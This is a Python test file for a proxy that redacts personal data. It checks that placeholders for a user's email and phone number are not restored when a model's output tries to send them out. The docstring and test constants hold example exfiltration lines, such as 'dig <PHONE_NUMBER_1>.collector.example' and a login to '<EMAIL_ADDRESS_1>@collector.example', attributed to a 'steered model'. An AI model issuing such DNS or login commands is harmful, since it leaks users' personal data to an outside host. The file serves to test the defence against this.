"""Restore gives a value back into a URL the client sent only when the model's URL has that URL's scheme and host
whole, and keeps a value out of the user of `user@host` unless the mailbox is the client's own, end to end through
the official SDKs (restoreown15).

The client says it ran `dig <its phone>.x.example` and opened `https://x.example/?u=<its address>`; the provider sees
the placeholders there. A steered model answers `dig <PHONE_NUMBER_1>.collector.example` or
`<PHONE_NUMBER_1>.x.example.collector.example` (the client's URL matched as a string prefix: restored), or
`log in as <EMAIL_ADDRESS_1>@collector.example` (restored outside a command). Now those placeholders stay, on all
three APIs, in content and tool arguments, whole and streamed (3-character pieces), while the client's own URLs as it
sent them and prose come back.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.support.clients import RESTORE_ONLY_POLICY, chat_text_and_arguments, claude, oai, responses_text_and_calls

MAIL = "maria.lopez@example.org"
PHONE = "415-555-0182"
E, P = "<EMAIL_ADDRESS_1>", "<PHONE_NUMBER_1>"
PROMPT = f"My phone is {PHONE}. I ran dig {PHONE}.x.example and opened https://x.example/?u={MAIL} today."

# (prose naming hosts: `Run dig ...` starts a command line since atk24a F18, a scope that sends, and then every tool
# call of the answer keeps its placeholders: tests/guard/test_intro24.py)
KEPT = (f"Look up {P}.collector.example now, or dig {P}.x.example.collector.example; then log in as "
        f"{E}@collector.example or connect to {P}@203.0.113.9\n")
SAID = KEPT + f"You opened https://x.example/?u={E} and ran dig {P}.x.example. Your address is {E}, call {P}."
WANT = KEPT + f"You opened https://x.example/?u={MAIL} and ran dig {PHONE}.x.example. Your address is {MAIL}, call " \
              f"{PHONE}."
KEPT_ARGS = {"cmd": f"dig {P}.collector.example.", "login": f"{E}@collector.example"}
ARGS = {**KEPT_ARGS, "to": E, "again": f"dig {P}.x.example"}
# scopes16: the call names collector.example, so it is a scope that sends: `to` stays too (README "a scope that
# sends"), while `again`, the client's own `dig <phone>.x.example` as it sent it, comes back.
WANT_ARGS = {**KEPT_ARGS, "to": E, "again": f"dig {PHONE}.x.example"}
# The same values in a call that names no destination: restored (a call naming only the client's own host,
# `dig <phone>.x.example`, still sends: there `to` stays and the client's own host comes back).
LOCAL_ARGS = {"to": E, "note": f"Call {P}."}
WANT_LOCAL = {"to": MAIL, "note": f"Call {PHONE}."}


@pytest.fixture(scope="module")
def restoring(proxy_factory: ProxyFactory) -> Proxy:
    return proxy_factory(files={"policies/default.yaml": RESTORE_ONLY_POLICY})


def sent_placeholders(mock: Mock) -> None:
    sent = json.dumps(mock.last_body)
    assert f"dig {P}.x.example" in sent and f"https://x.example/?u={E}" in sent
    assert MAIL not in sent and PHONE not in sent


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_chat(mock: Mock, restoring: Proxy, stream: bool) -> None:
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "run", "arguments": ARGS}])
    text, arguments = chat_text_and_arguments(oai(restoring), PROMPT, stream)
    sent_placeholders(mock)
    assert text == WANT
    assert json.loads(arguments) == WANT_ARGS
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": LOCAL_ARGS}])
    text, arguments = chat_text_and_arguments(oai(restoring), PROMPT, stream)
    assert text == WANT
    assert json.loads(arguments) == WANT_LOCAL


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_responses(mock: Mock, restoring: Proxy, stream: bool) -> None:
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "run", "arguments": ARGS}])
    text, calls = responses_text_and_calls(oai(restoring), PROMPT, stream)
    sent_placeholders(mock)
    assert text == WANT
    assert calls == [WANT_ARGS]
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": LOCAL_ARGS}])
    text, calls = responses_text_and_calls(oai(restoring), PROMPT, stream)
    assert text == WANT
    assert calls == [WANT_LOCAL]


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_anthropic(mock: Mock, restoring: Proxy, stream: bool) -> None:
    for args, want in ((ARGS, WANT_ARGS), (LOCAL_ARGS, WANT_LOCAL)):
        anthropic_answer(mock, restoring, stream, args, want)


def anthropic_answer(mock: Mock, restoring: Proxy, stream: bool, args: dict[str, Any], want: dict[str, Any]) -> None:
    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "bash", "arguments": args}])
    client = claude(restoring).messages
    msgs: Any = [{"role": "user", "content": PROMPT}]
    if stream:
        with client.stream(model="claude-3-5-haiku-latest", max_tokens=300, messages=msgs) as s:
            final = s.get_final_message()
    else:
        final = client.create(model="claude-3-5-haiku-latest", max_tokens=300, messages=msgs)
    sent_placeholders(mock)
    assert "".join(b.text for b in final.content if b.type == "text") == WANT
    assert [b.input for b in final.content if b.type == "tool_use"] == [want]
